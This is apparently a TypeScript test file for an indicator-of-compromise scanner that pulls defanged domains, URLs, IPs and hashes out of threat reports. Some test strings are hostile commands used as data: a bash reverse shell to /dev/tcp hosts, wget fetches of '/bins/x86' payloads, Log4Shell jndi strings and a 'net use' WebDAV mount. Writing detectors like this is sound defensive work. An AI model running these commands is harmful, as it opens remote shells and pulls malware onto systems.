import * as assert from 'node:assert/strict';
import { scanText, type IocMatch } from '../../src/core';
import { CJK_RANGES, isCjkCode, isLabelCode, isWordCode, T_ASCII_LABEL, T_CJK, T_LABEL, T_WORD, TOKEN_KIND } from '../../src/core/chars';
import { LETTERS } from '../../src/core/patterns';

const found = (text: string): string[] => scanText(text).filter((m) => m.role === 'indicator').map((m) => `${m.type} ${m.value}`);
/** Every occurrence's role and value, citations too. */
const roles = (text: string): string[] => scanText(text).map((m) => `${m.role} ${m.value}`);
const one = (text: string): IocMatch => {
	const all = scanText(text);
	assert.equal(all.length, 1, `one match in ${JSON.stringify(text)}, got ${JSON.stringify(all)}`);
	return all[0];
};

suite('scanText: types', () => {
	const cases: [string, string][] = [
		['evil[.]top', 'domain evil.top'],
		['hxxps://evil[.]top/a?b=1', 'url https://evil.top/a?b=1'],
		['poly.ufxtools[.]com/wp-content/dl.php?a=d', 'url poly.ufxtools.com/wp-content/dl.php?a=d'],
		['8.8.4[.]4', 'ipv4 8.8.4.4'],
		['2001:db8:85a3::8a2e:370:7334', 'ipv6 2001:db8:85a3::8a2e:370:7334'],
		['34.168.202[.]91:443', 'ip_port 34.168.202.91:443'],
		['34.168.202[.]91[:]443', 'ip_port 34.168.202.91:443'],
		['34.168.202[.]91 port 443', 'ip_port 34.168.202.91:443'],
		['[2001:db8::1]:8443', 'ip_port [2001:db8::1]:8443'],
		['d41d8cd98f00b204e9800998ecf8427e', 'md5 d41d8cd98f00b204e9800998ecf8427e'],
		['F80836349D6E97251030190ECD30DDA0047F1EE6', 'sha1 f80836349d6e97251030190ecd30dda0047f1ee6'],
		[`${'ab12'.repeat(16)}`, `sha256 ${'ab12'.repeat(16)}`],
		[`${'cd34'.repeat(32)}`, `sha512 ${'cd34'.repeat(32)}`],
		['bad.actor[@]evil[.]com', 'email bad.actor@evil.com'],
		['cve-2025-24813', 'cve CVE-2025-24813'],
		['пример[.]рф', 'domain пример.рф'],
		['xn--80ak6aa92e[.]com', 'domain xn--80ak6aa92e.com'],
		['wgcuwcgociewewoo.xyz:1775', 'url wgcuwcgociewewoo.xyz:1775'],
		['185.220.101[.]0/24', 'cidr 185.220.101.0/24'],
		['2A0E:1C80::/29', 'cidr 2a0e:1c80::/29'],
	];
	for (const [text, want] of cases) {
		test(`${text} → ${want}`, () => assert.deepEqual(found(text), [want]));
	}
});

suite('scanText: offsets and layout', () => {
	test('offsets point into the original (defanged) text', () => {
		const text = 'C2: hxxps[:]//www.treasurybanks[.]org/x and 172.67.8[.]59.';
		for (const m of scanText(text)) {
			assert.equal(text.slice(m.start, m.end), m.raw);
		}
		assert.deepEqual(found(text), ['url https://www.treasurybanks.org/x', 'ipv4 172.67.8.59']);
	});
	test('CRLF, BOM, tabs and no final newline', () => {
		const text = '\ufeffevil[.]top\r\n\tbad[.]top';
		assert.deepEqual(
			scanText(text).map((m) => [m.raw, m.start]),
			[['evil[.]top', 1], ['bad[.]top', 14]],
		);
	});
	test('NBSP glued to a hash and zero-width spaces around values', () => {
		assert.deepEqual(found(`\u00a0${'ab12'.repeat(16)}\u00a0`), [`sha256 ${'ab12'.repeat(16)}`]);
		assert.deepEqual(found('\u200bevil[.]top\u200b'), ['domain evil.top']);
	});
	test('trailing punctuation, backticks, emphasis, <…> and markdown links are not part of a value', () => {
		assert.deepEqual(found('See `evil[.]top`, **bad[.]top**. <https://x[.]top/a>'), ['domain evil.top', 'domain bad.top', 'url https://x.top/a']);
		const md = '[hxxps://a[.]top/x](hxxps://a[.]top/x)';
		assert.deepEqual(scanText(md).map((m) => m.raw), ['hxxps://a[.]top/x', 'hxxps://a[.]top/x']);
		assert.deepEqual(found('(see hxxp://evil[.]top/a_(b))'), ['url http://evil.top/a_(b)']);
	});
	test('a URL wrapped over indented lines is joined; raw keeps the line break', () => {
		const text = '- hxxps[:]//www.treasurybanks[.]org/?utm_source=googleads&\n  utm_medium=cpc\nnext';
		const m = one(text);
		assert.equal(m.value, 'https://www.treasurybanks.org/?utm_source=googleads&utm_medium=cpc');
		assert.equal(text.slice(m.start, m.end), m.raw);
	});
	test('a wrapped live URL in a text without any defang: value joined, raw still the written range', () => {
		const text = 'see http://a.com/x.php?id=\n    42&k=v\nend';
		const m = one(text);
		assert.equal(m.value, 'http://a.com/x.php?id=42&k=v');
		assert.equal(m.raw, 'http://a.com/x.php?id=\n    42&k=v');
		assert.equal(text.slice(m.start, m.end), m.raw);
	});
	test('a URL wrapped after its ?, after a / before a path piece, or before a line starting with & is joined', () => {
		const text = [
			'- hxxp://albumtv2009b[.]com/adda/focy2?',
			'  id=g6luuTT0&n5=WCDm7',
			'- hxxps[:]//conspatriots2024[.]com/wp-content/uploads/2024/04/',
			'  0-02-05-39b70d3c_1c6dbb11ce91a9.mp4',
			'- hxxps://www.electric-cars-78398[.]bond/?backfill=0',
			'  &lrt=1&KW1=First',
		].join('\n');
		assert.deepEqual(found(text), [
			'url http://albumtv2009b.com/adda/focy2?id=g6luuTT0&n5=WCDm7',
			'url https://conspatriots2024.com/wp-content/uploads/2024/04/0-02-05-39b70d3c_1c6dbb11ce91a9.mp4',
			'url https://www.electric-cars-78398.bond/?backfill=0&lrt=1&KW1=First',
		]);
		for (const m of scanText(text)) {
			assert.equal(text.slice(m.start, m.end), m.raw);
		}
	});
	test("a link ending a question is not joined to the next line's words", () => {
		assert.deepEqual(found('- Did the victim browse to hxxps://evil[.]com/login?\n  The proxy logs confirm it.'), ['url https://evil.com/login']);
	});
	test('after a /, a next line that is a word, a domain or more text is not joined; nor is a link of its own', () => {
		assert.deepEqual(found('hxxps://evil[.]top/\n  Malicious\nhxxps://evil[.]top/a/\n  evil2[.]com\nhxxps://evil[.]top/b/\n  see this'), [
			'url https://evil.top/',
			'url https://evil.top/a/',
			'domain evil2.com',
			'url https://evil.top/b/',
		]);
		// The login link's redirect target is the attacker's own link: found, not lost inside the query.
		assert.deepEqual(found('-- hxxps[:]//login.microsoftonline[.]com/common/oauth2/authorize?\n     client_id=e40de0db&\n     redirect_uri=hxxps[:]//evil.z13.web.core.windows[.]net&\n     scope=x'), [
			'url https://login.microsoftonline.com/common/oauth2/authorize?client_id=e40de0db&',
			'url https://evil.z13.web.core.windows.net',
		]);
	});
	test("a link wrapped inside URL-encoded markup ends at its encoded quote", () => {
		assert.deepEqual(found('GET /tag.php?tag=%3Cscript%20src=%22http://vfiawe.tronects[.]net/\n    jquery.min.php%22%3E%3C/script%3E?%3Cscript%3EIf'), ['url vfiawe.tronects.net/jquery.min.php']);
	});
	test("a name whose first label or mailbox the author redacted: the label is dropped, a cut mailbox's provider is nothing", () => {
		assert.deepEqual(found('- [redacted].[redacted]amou[.]com\n- [redacted]govome[.]help\n- [redacted]dmv.gov-cunm[.]shop\n- [redacted]-gov.org-fie[.]cc\n- [redacted].evil[.]com'), [
			'domain gov-cunm.shop',
			'domain org-fie.cc',
			'domain evil.com',
		]);
		assert.deepEqual(found('for <[information removed]@gmail.com>; from <bad@evil[.]top>; see [1]evil[.]net'), ['email bad@evil.top', 'domain evil.net']);
		// A domain the author defanged after a redacted mailbox is an indicator all the same; a label's hyphens are its own.
		assert.deepEqual(found('From: [redacted]@evil-phish[.]top\n[redacted]abc-def.evil[.]com'), ['domain evil-phish.top', 'domain evil.com']);
	});
	test("a placeholder after a live link (a citation's template) or markup glued to a link changes nothing", () => {
		assert.deepEqual(roles('evil[.]com and https://docs.somevendor.com/api/{version}/reference'), ['indicator evil.com', 'reference https://docs.somevendor.com/api/']);
		assert.deepEqual(found('hxxp://dl-evil[.]top/files/stage2.bin<sup>3</sup>'), ['url http://dl-evil.top/files/stage2.bin']);
	});
	test("a link whose path the author left as a placeholder gives its host (the written path matches no logged one)", () => {
		assert.deepEqual(found('hxxps://38.110.103[.]18/rob112/[long string] hxxp://94.140.114[.]239:443/rob112/[long string]'), ['ipv4 38.110.103.18', 'ip_port 94.140.114.239:443']);
		assert.deepEqual(found('hxxps[:]//api.telegram[.]org/bot<token>/getUpdates and hxxps://git[.]evil[.]com/tree/{insert commit hash here}'), ['domain api.telegram.org', 'domain git.evil.com']);
		// An AsciiDoc link's label, a footnote and a query's placeholder are no path placeholders.
		assert.deepEqual(found('hxxps://evil[.]com/a[Label] hxxps://evil[.]com/b[1] hxxps://a[.]com/?usuario=[recipient address]'), ['url https://evil.com/a', 'url https://evil.com/b', 'url https://a.com/?usuario=']);
	});
	test('defanged flag', () => {
		assert.equal(one('evil[.]top').defanged, true);
		assert.equal(one('hxxp://evil.top/x').defanged, true);
		assert.equal(one('1.2.3.4').defanged, false);
	});
});

suite('scanText: context beats regex', () => {
	const negatives = [
		'payload.zip',
		'open review.one now',
		'files.cab',
		'q-report-53394.zip',
		'vt_ioc_linux_rakos.py',
		'package com.rio',
		'Win32/Pterodo.CEZ',
		'Trojan.Win32.Agent',
		'Trojan.Agent.ru',
		'Agent.MSIL.io',
		'Spy.Android.co',
		'version 1.2.3.4.5',
		'Copy of AutoIt3.exe version 3.3.14.5, not malicious',
		'UltraVNC (Version: 1.4.3.6)',
		'build 10.0.0.1 of the loader',
		'v. 2.0.0.1',
		'fixed in releases 4.1.0.2 and 4.1.0.3 and later',
		'FortiOS 7.0.0.1 and earlier',
		'e.g. this, i.e. that',
		'C:\\Users\\Public\\18482.xoq',
		'http://site/path[Label]',
		'id=[EncryptionID]',
		'{8f1b2c3d-1111-2222-3333-444455556666}',
		'12:30:45',
		'1234567890123456789012345678901234567890',
		'REDACTED@mfa.gov.ua',
		'write to user@example-corp.com for access',
		'REDACTED[@]mfa.gov[.]ua',
		'http://example.com/#',
		'DnsEvents | Ensure this data connector is enabled',
	];
	for (const text of negatives) {
		test(`nothing in ${JSON.stringify(text)}`, () => assert.deepEqual(found(text), []));
	}
	test('a dotted quad is an address unless version words stand right beside it on its line', () => {
		assert.deepEqual(found('C2 from 1.2.3.4, the version check went to 5.6.7.8'), ['ipv4 1.2.3.4', 'ipv4 5.6.7.8']);
		assert.deepEqual(found('Agent version\n10.1.2.3 beaconed'), ['ipv4 10.1.2.3']);
		assert.deepEqual(found('firewall fw 10.0.0.1 and subversion 9.9.9.9'), ['ipv4 10.0.0.1', 'ipv4 9.9.9.9']);
		assert.deepEqual(found('9.9.9.9 and laterals 8.8.8.8 or older'), ['ipv4 9.9.9.9']);
	});
	test("an advisory's list of versions after a version word is no list of addresses; a list of addresses stays one", () => {
		const text = 'versions 6.4.0.0 through 6.4.15.2; releases 9.12.4.62, 9.14.4.23 and 9.16.4.42; versions prior to 8.0.0.25 and 7.4.1.10\nUpgrade from 5.4.0.1 to 5.4.1.2. Update 2.7.1.9 released.';
		assert.deepEqual(found(text), []);
		assert.deepEqual(found('C2: 45.9.148.1, 45.9.148.2 and 45.9.148.3; the version check went to 5.6.7.8'), ['ipv4 45.9.148.1', 'ipv4 45.9.148.2', 'ipv4 45.9.148.3', 'ipv4 5.6.7.8']);
	});
	test('an address and a prefix length is a network (CIDR); a path, a scheme or a prefix wider than /8 (v6 /16) is not', () => {
		assert.deepEqual(found('Block 45.9.148[.]0/24, 91.92.240.0/22 and 2001:db8:1::/48.'), ['cidr 45.9.148.0/24', 'cidr 91.92.240.0/22', 'cidr 2001:db8:1::/48']);
		assert.deepEqual(found('hxxp://1.2.3[.]4/24 and 5.6.7[.]8/2 and 9.9.9[.]9/24/x'), ['url http://1.2.3.4/24', 'url 5.6.7.8/2', 'url 9.9.9.9/24/x']);
		assert.deepEqual(found('2001:db8::1/8 then 1.2.3[.]4/33'), ['ipv6 2001:db8::1', 'url 1.2.3.4/33']);
		const m = one('range: 45.9.148[.]0/24.');
		assert.equal('range: 45.9.148[.]0/24.'.slice(m.start, m.end), '45.9.148[.]0/24');
	});
	test('an IPv6 address may end a sentence; a dot that goes on into a word or an address is not its end', () => {
		assert.deepEqual(found('Beacons went to 2001:db8:1::2. Then 2a01:4f8::1.\nAlso 2001[:]db8[:]1[:][:]3.'), ['ipv6 2001:db8:1::2', 'ipv6 2a01:4f8::1', 'ipv6 2001:db8:1::3']);
		const m = one('to 2a03[:]2880[:]f12f[:]83[:]face[:]b00c[:]0[:]25de.');
		assert.equal('to 2a03[:]2880[:]f12f[:]83[:]face[:]b00c[:]0[:]25de.'.slice(m.start, m.end), '2a03[:]2880[:]f12f[:]83[:]face[:]b00c[:]0[:]25de');
		assert.deepEqual(found('times 10:30:00. and fe80::1.example and ::ffff:1.2'), []);
	});
	test('an address or host with a port may end a sentence: the port stays', () => {
		assert.deepEqual(found('The C2 was 185.220.101[.]51:80.\nLive 45.9.148.64:443. And evil401[.]com:443.'), ['ip_port 185.220.101.51:80', 'ip_port 45.9.148.64:443', 'url evil401.com:443']);
		assert.deepEqual(found('at 10.1.2.3:80.5 then'), ['ipv4 10.1.2.3']);
	});
	test('typographic quotes, guillemets, an ellipsis or a dash end a link', () => {
		assert.deepEqual(found('“hxxps://evil61[.]com” ok. ‘hxxp://a[.]top/p’, «hxxps://b[.]top/q» and hxxps://c[.]top/a—the end… hxxp://d[.]org/x…'), [
			'url https://evil61.com',
			'url http://a.top/p',
			'url https://b.top/q',
			'url https://c.top/a',
			'url http://d.org/x',
		]);
	});
	test('the tail of a longer colon-separated run (a certificate serial or fingerprint) is no IPv6 address', () => {
		assert.deepEqual(found('Serial: 0c:e7:e0:e5:17:d8:46:fe:8f:e5:60:fc:1b:f0:30:39\nThumbprint 5a:1b:2c:3d:4e:5f:60:71:82:93:a4:b5:c6:d7:e8:f9:0a:1b:2c:3d'), []);
		assert.deepEqual(found('C2 2001:db8::1 and 2a01:4f8::1:2'), ['ipv6 2001:db8::1', 'ipv6 2a01:4f8::1:2']);
	});
	test('in a report that defangs, a live link to an address is still an indicator; a live link to a host is a citation', () => {
		assert.deepEqual(roles('C2 evil190[.]com. Then wget http://45.9.148.62/bins/x86; see https://www.vendor-research.com/blog'), [
			'indicator evil190.com',
			'indicator http://45.9.148.62/bins/x86',
			'reference https://www.vendor-research.com/blog',
		]);
	});
	test('links with the schemes exploits and malware use are URLs (Log4Shell, IRC, SOCKS, mining pools); h[xx]p and h__p are defanged schemes', () => {
		assert.deepEqual(found('${jndi:ldap://45.9.148.71:1389/Exploit} ${jndi:rmi://evil[.]com:1099/a} stratum+tcp://pool.evil316[.]com:3333 irc://irc.evil[.]net:6667/#c'), [
			'url ldap://45.9.148.71:1389/Exploit',
			'url rmi://evil.com:1099/a',
			'url stratum+tcp://pool.evil316.com:3333',
			'url irc://irc.evil.net:6667/#c',
		]);
		assert.deepEqual(found('h[xx]ps://evil7[.]com/a and h__p://evil8[.]com/b'), ['url https://evil7.com/a', 'url http://evil8.com/b']);
	});
	test('a defanged host after a mistyped or unknown scheme\'s `//` is still found; a live one is left', () => {
		// As Unit 42's posts write them: `xxps://`, `hzzps://`, `htps://`, `https: //`.
		assert.deepEqual(found('xxps://cdn.evil1[.]com/a.pdf hzzps://evil2[.]it/api.php?id=1 htps://evil3[.]live/ https: //evil4[.]dev/d.html meow://evil5[.]com'), [
			'url cdn.evil1.com/a.pdf',
			'url evil2.it/api.php?id=1',
			'domain evil3.live',
			'url evil4.dev/d.html',
			'domain evil5.com',
		]);
		assert.deepEqual(found('app://example.com/x and xyz://example.org in a report that defangs evil[.]com'), ['domain evil.com']);
	});
	test('a link with a third slash, a host ended by `&` or `%`, and a shortcut\'s `file:` UNC target, as Unit 42 writes them', () => {
		assert.deepEqual(found('hxxps[:]///ecolejilespoir[.]com/are-dune hxxps[:]///amani[.]ma/'), ['url https://ecolejilespoir.com/are-dune', 'url https://amani.ma/']);
		// A redirect_uri parameter ends at the next `&`; a PDF's link kept an encoded space.
		const text = 'redirect_uri=hxxps[:]//login.evil[.]net&scope=x and hxxp://80.77.23[.]64%20 and hxxp://evil[.]com/a%20';
		assert.deepEqual(found(text), ['url https://login.evil.net', 'url http://80.77.23.64', 'url http://evil.com/a%20']);
		assert.deepEqual(
			scanText(text).map((m) => m.raw),
			['hxxps[:]//login.evil[.]net', 'hxxp://80.77.23[.]64', 'hxxp://evil[.]com/a%20'],
		);
		// A user part may hold them: the host is after the `@`.
		assert.deepEqual(found('ftp://us%40er:p&w@files.evil[.]com/x'), ['url ftp://us%40er:p&w@files.evil.com/x']);
		assert.deepEqual(found('file[:]//\\\\62.60.226[.]112@80\\file\\590_9883.exe file[:]\\\\share.evil[.]com@80\\s\\a.msi'), ['ipv4 62.60.226.112', 'domain share.evil.com']);
		// A C or PowerShell string writes the UNC path's backslashes twice.
		assert.deepEqual(found('cmd /c net use \\\\\\\\193.143.1[.]205@8888\\\\davwwwroot\\\\'), ['ipv4 193.143.1.205']);
		// `file:///` keeps its empty host; a path after one backslash is still a folder.
		assert.deepEqual(found('file:///C:/Users/x/evil.com and C:\\Users\\evil[.]com'), []);
	});
	test('a `+` glued before a name is no part of it (AsciiDoc `+…+` literals, concatenated strings)', () => {
		assert.deepEqual(found('`+evil1[.]ru+` and "x"+evil2[.]top and (+evil3[.]com/a+)'), ['domain evil1.ru', 'domain evil2.top', 'url evil3.com/a']);
		assert.deepEqual(found('mail user+tag@evil[.]com'), ['email user+tag@evil.com']);
	});
	test('an advisory\'s "http or https" (`hxxp[s]://`, `http(s)://`) is the secure scheme; the raw text keeps the brackets', () => {
		const text = 'C2: hxxp[s]://evil[.]com/a, http[s]://b.evil.net/x and hxxp(s)[:]//evil9[.]com/c';
		assert.deepEqual(found(text), ['url https://evil.com/a', 'url https://b.evil.net/x', 'url https://evil9.com/c']);
		const [first] = scanText(text);
		assert.equal(first.raw, 'hxxp[s]://evil[.]com/a');
		assert.equal(text.slice(first.start, first.end), first.raw);
		assert.ok(first.defanged);
		// Empty brackets after the scheme, as Unit 42 writes them.
		assert.deepEqual(found('-- hxxps[]://t[.]me/gt77cra'), ['url https://t.me/gt77cra']);
	});
	test('a login `user@address` (ssh, scp) gives the address; a mail header message id does not', () => {
		assert.deepEqual(found('ssh root@45.9.148[.]80 then scp a.sh admin@185.220.101[.]81:/tmp/ and bob@evil[.]com'), ['ipv4 45.9.148.80', 'ipv4 185.220.101.81', 'email bob@evil.com']);
		assert.deepEqual(found('Message-ID: <04b59b714d0adf29d1aa7f0a40501@127.0.0.1>'), []);
	});
	test("a lure's double extension is a file name, written live; a defanged one or a longer host is a domain", () => {
		assert.deepEqual(found('Attachment: Remittance-Advice.pdf.zip, Q3_Report.docx.mov, agenda.pdf.one and main.tf'), []);
		assert.deepEqual(found('cdn.evil.zip, a.b.c.zip and x.pdf[.]zip'), ['domain cdn.evil.zip', 'domain a.b.c.zip', 'domain x.pdf.zip']);
	});
	test('in a list of domains, a name the host rules set aside (a file\'s, a package\'s, a detection\'s) is a domain', () => {
		// Palo Alto's list of 90,557 compromised sites: Polish and Serbian sites, Turkish `.gen.tr` ones, `io.` hosts.
		assert.deepEqual(found('evil.com\n007holowanie.pl\nacb.rs\n- x.pl\nbalayioteli.gen.tr\nio.emu.edu.tr\nexample.com\n'), [
			'domain evil.com',
			'domain 007holowanie.pl',
			'domain acb.rs',
			'domain x.pl',
			'domain balayioteli.gen.tr',
			'domain io.emu.edu.tr',
		]);
		// A list of files or of packages stays one; so does a name in a sentence, or alone after a blank line.
		assert.deepEqual(found('bot.pl\nbot.sh\nbot.py\n\ncom.rio\ncom.bmo\n\nRun update.pl now.\nevil.com\n\nupdate.pl\n'), ['domain evil.com']);
	});
	test('a live name with `_`, or only numbers, before a file extension is a file name; defanged, a domain', () => {
		assert.deepEqual(found('File name: Unpaid_Loan_07.25.2022.5033.zip, Bandicam_4.3.1.1490.zip, Electronic form 03.07.2023.zip, W-9 Dt 03.22.2023.one'), []);
		assert.deepEqual(found('File name: erosstrucking-file-08.08.2022.zip and 408709.one.zip'), []);
		assert.deepEqual(found('evil_cdn.host.zip and 03.07.2023[.]zip and 2023.cdn.zip'), ['domain 03.07.2023.zip', 'domain 2023.cdn.zip']);
	});
	test('a CVE id written with Unicode hyphens (a word processor) is found, with ASCII hyphens', () => {
		assert.deepEqual(found('CVE\u20112024\u20111709 and CVE\u20132023\u20134966'), ['cve CVE-2024-1709', 'cve CVE-2023-4966']);
	});
	test("security vendors' research blogs and the security press are citations, in a report that defangs nothing", () => {
		assert.deepEqual(roles('d41d8cd98f00b204e9800998ecf8427e per https://www.crowdstrike.com/blog/foo/ and https://cloud.google.com/blog/x; payload https://drive.google.com/file/d/abc'), [
			'indicator d41d8cd98f00b204e9800998ecf8427e',
			'reference https://www.crowdstrike.com/blog/foo/',
			'reference https://cloud.google.com/blog/x',
			'indicator https://drive.google.com/file/d/abc',
		]);
	});
	test('markers a markdown converter escaped (`\\[.\\]`) are defangs, with exact raw ranges', () => {
		const text = 'C2 evil6\\[.\\]com and hxxps\\[:\\]//evil7\\[.\\]com/a';
		assert.deepEqual(
			scanText(text).map((m) => [m.type, m.value, m.raw === text.slice(m.start, m.end), m.defanged]),
			[
				['domain', 'evil6.com', true, true],
				['url', 'https://evil7.com/a', true, true],
			],
		);
	});
	test('a link whose host is a bracketed IPv6 address keeps its scheme, port and path', () => {
		assert.deepEqual(found('hxxp://[2001:db8::3]:8080/x and http://[2001:db8::4]/payload.bin and [2001:db8::5]:443'), [
			'url http://[2001:db8::3]:8080/x',
			'url http://[2001:db8::4]/payload.bin',
			'ip_port [2001:db8::5]:443',
		]);
	});
	test('in a report that defangs, a live link with a scheme no citation uses, or to an onion service, is an indicator', () => {
		assert.deepEqual(roles('evil[.]com. ${jndi:ldap://attacker-ldap.net:1389/a} irc://irc.bad.net:6667 http://abcdefghijklmnop.onion/x https://vendor-blog.com/post'), [
			'indicator evil.com',
			'indicator ldap://attacker-ldap.net:1389/a',
			'indicator irc://irc.bad.net:6667',
			'indicator http://abcdefghijklmnop.onion/x',
			'reference https://vendor-blog.com/post',
		]);
	});
	test('eight groups of two hex digits (a serial, an EUI-64) are no IPv6 address; CJK sentence punctuation ends a link', () => {
		assert.deepEqual(found('Serial 4b:2f:aa:01:02:03:04:05, EUI 02:1a:2b:ff:fe:3c:4d:5e, but 2001:db8:1:2:3:4:5:6'), ['ipv6 2001:db8:1:2:3:4:5:6']);
		assert.deepEqual(found('访问 hxxp://cjk-a[.]com/a，然后 hxxp://cjk-e[.]com/a。 （hxxp://cjk-f[.]com/b）「hxxp://cjk-g[.]com/c」'), [
			'url http://cjk-a.com/a',
			'url http://cjk-e.com/a',
			'url http://cjk-f.com/b',
			'url http://cjk-g.com/c',
		]);
		// The ideographic comma stays: real phishing paths hold it.
		assert.deepEqual(found('hxxps://mm.evil[.]ru/a/連絡先、夕食会.html'), ['url https://mm.evil.ru/a/連絡先、夕食会.html']);
	});
	test("a reverse shell's /dev/tcp/host/port gives host:port; tls:// and mqtt:// links are URLs", () => {
		assert.deepEqual(found('bash -i >& /dev/tcp/45.32.11.8/4444 0>&1; exec 5<>/dev/tcp/evil-shell.top/443; tls://evil-s7[.]com:443 mqtt://m[.]evil.net:1883'), [
			'ip_port 45.32.11.8:4444',
			'url evil-shell.top:443',
			'url tls://evil-s7.com:443',
			'url mqtt://m.evil.net:1883',
		]);
		assert.deepEqual(found('/usr/lib/x86.so and /home/user/evil.com'), []);
	});
	test('a script object and member (WScript.Shell, ADODB.Stream, requests.post) is no domain, written live', () => {
		assert.deepEqual(found('CreateObject("WScript.Shell"), ADODB.Stream, WScript.Network; requests.post(u); config.host = 1; req.open("POST", u); hashArray.map(b => b); isExcluded(document.location.host)'), []);
		assert.deepEqual(found('config.evil.com and wscript[.]shell; hashArray[.]map(x), evil.com(1.2.3.4), document.methoder.com'), ['domain config.evil.com', 'domain wscript.shell', 'domain hasharray.map', 'domain evil.com', 'ipv4 1.2.3.4', 'domain document.methoder.com']);
		assert.deepEqual(found('layer.open({type: 1}); Thread.new{sleep 18000}; items.map(f); c2.evil[.]open(x)'), ['domain c2.evil.open']);
	});
	test("a magnet link's display name (dn=) is a file's name, not a domain; its trackers are still read", () => {
		assert.deepEqual(found('magnet[:]?xt=urn[:]btih[:]wkam3fozjge4k3tvnxdw2llpmq5caxkk&dn=Dead.Cells.Incl.All.DLC.zip'), []);
		assert.deepEqual(found('magnet:?dn=Reg.Organizer.8.25.zip&xl=1 and magnet:?xt=urn:btih:abc&dn=x.zip&tr=udp://tracker.evil-peer.top:1337'), ['url udp://tracker.evil-peer.top:1337']);
		assert.deepEqual(found('see hxxp://evil[.]top/?dn=payload.zip and ?dn=evil[.]top'), ['url http://evil.top/?dn=payload.zip', 'domain evil.top']);
	});
	test('a live link on an address without a scheme is a URL in prose too; a live host and path is not', () => {
		assert.deepEqual(found('cd /tmp; wget 45.9.1.28/bins/x86 and polls 194.26.1.2:8080/submit.php; see Node.js/Express'), [
			'url 45.9.1.28/bins/x86',
			'url 194.26.1.2:8080/submit.php',
		]);
		// No letter in the path (a /0 network, an address and netmask, a version pair), or an image tag: no link.
		assert.deepEqual(found('opened 0.0.0.0/0 on port 22; 10.1.1.1/255.255.255.0; nginx:1.25.3.1/alpine; 3.1.4.1/2.7'), []);
		// A version's page or a rate is no link either.
		assert.deepEqual(found('Upgrade to release 2.0.0.1/notes today. Version 1.2.3.4/beta was deployed. Measured 10.5.1.2/sec.'), []);
	});
	test('networks listed with no space after their commas are each a network', () => {
		assert.deepEqual(found('block 185.0.0.0/24,185.1.0.0/24;185.4.0.0/16 and [203.0.113.0/24,198.51.100.7]'), [
			'cidr 185.0.0.0/24',
			'cidr 185.1.0.0/24',
			'cidr 185.4.0.0/16',
			'cidr 203.0.113.0/24',
			'ipv4 198.51.100.7',
		]);
	});
	test('a file named by its SHA-256 in a path is that hash; a shorter hex name there, or a hash in a link, is not', () => {
		const sha = 'ab12'.repeat(16);
		assert.deepEqual(found(`Dropped C:\\Users\\a\\AppData\\Local\\Temp\\${sha}.exe and /tmp/${'cd34'.repeat(8)}`), [`sha256 ${sha}`]);
		// A folder named by a hash (a container layer) is no file's hash.
		assert.deepEqual(found(`Layer /var/lib/docker/overlay2/${sha}/merged`), []);
		assert.deepEqual(
			scanText(`see https://www.virustotal.com/gui/file/${sha}`).map((m) => m.type),
			['url'],
		);
	});
	test("a bounce address's mailbox holding = and a domain (SRS, VERP) is read whole; a log's user=address field is not", () => {
		assert.deepEqual(found('Return-Path: <bounce+abc=victim-corp.com@phishsender.co> and key=bob@evil.com'), [
			'email bounce+abc=victim-corp.com@phishsender.co',
			'email bob@evil.com',
		]);
	});
	test('a name split by an invisible character gives nothing rather than its tail, another domain', () => {
		assert.deepEqual(found('C2 evil\u00ad202[.]com and evil\u200bzw[.]com, then ok\u200b evil3[.]com and bad[.]com\u200b'), ['domain evil3.com', 'domain bad.com']);
		// Split before a hyphen: the tail after it (`host.com`) is another domain too.
		assert.deepEqual(found('malware\u200b-host[.]com, mal\u00ad--ware[.]net and ok\u200b -fine[.]org'), ['domain fine.org']);
	});
	test('file:// URLs of remote shares are URLs; a WebDAV `@SSL` or `@port` ends the host; local files are not', () => {
		assert.deepEqual(found('file://46.8.19[.]163/mise/server.exe and file://5.181.159[.]76@80/Downloads/alpha.url'), [
			'url file://46.8.19.163/mise/server.exe',
			'url file://5.181.159.76@80/Downloads/alpha.url',
		]);
		assert.deepEqual(found('- file://share.trycloudflare[.]com@SSL/DavWWWRoot/Modelo-34.pdf.lnk'), ['url file://share.trycloudflare.com@ssl/DavWWWRoot/Modelo-34.pdf.lnk']);
		assert.deepEqual(found('open file:///C:/Users/Public/a.txt or file://localhost/etc/passwd'), []);
	});
	test('the host of a UNC path is an indicator; a name inside a local path is not', () => {
		assert.deepEqual(found('Mount \\\\185.156.73[.]54\\share\\a.dll and "\\\\files.evil-share[.]com@SSL\\DavWWWRoot\\i.lnk"'), [
			'ipv4 185.156.73.54',
			'domain files.evil-share.com',
		]);
		assert.deepEqual(found('C:\\Users\\Public\\evil.com\\x and a\\\\b.evil.com\\c'), []);
	});
	test('a defanged address is an indicator even with a mailbox documentation uses for anyone', () => {
		assert.deepEqual(found('user(@)evil-mail[.]com and email[at]evil-mail[.]com'), ['email user@evil-mail.com', 'email email@evil-mail.com']);
	});
	test('a defanged dotted quad is an indicator even beside a version word', () => {
		assert.deepEqual(found('version 3.3.14[.]5'), ['ipv4 3.3.14.5']);
	});
	test('a name is a detection name only when a whole label is a detection word', () => {
		assert.deepEqual(found('trojans.agent.ru msil-cdn.io'), ['domain trojans.agent.ru', 'domain msil-cdn.io']);
	});
	test('defanged names are indicators even with a file-like TLD', () => {
		assert.deepEqual(found('sweetapp[.]page and payload[.]zip'), ['domain sweetapp.page', 'domain payload.zip']);
	});
	test('a host name holding an IP is one domain', () => {
		assert.deepEqual(found('193-22-92-35.host[.]com'), ['domain 193-22-92-35.host.com']);
	});
	test('brand-prefixed phishing host', () => {
		assert.deepEqual(found('paypal.com-secure-login[.]top'), ['domain paypal.com-secure-login.top']);
	});
	test('wildcard and placeholder subdomains give the parent domain', () => {
		assert.deepEqual(found('*.evil[.]top and `<subdomain>.912233[.]shop`'), ['domain evil.top', 'domain 912233.shop']);
	});
	test('hex inside a URL is not a hash', () => {
		assert.deepEqual(found(`hxxp://evil[.]top/?k=${'ab12'.repeat(8)}`), [`url http://evil.top/?k=${'ab12'.repeat(8)}`]);
	});
	test("a session's or a request's secret, an XOR key or a message id is no hash: CGISESSID=…, key=, XOR key:", () => {
		const h = 'e6f1106605b5e8bee6114a3b5a88c5b4';
		assert.deepEqual(found(`Cookie:CGISESSID=${h}; PHPSESSID=${h} sid=${h}, csrf_token: "${h}" api_key=${h} nonce=${h}`), []);
		assert.deepEqual(found(`MD5: ${h}, hash=${h}, consider=${h}`), [`md5 ${h}`, `md5 ${h}`, `md5 ${h}`]);
		const k = '8111edf01ac6cb5c77e249d4e84fd92a85b5e89c2e2bef92fbe00b6f1cc2aa8e';
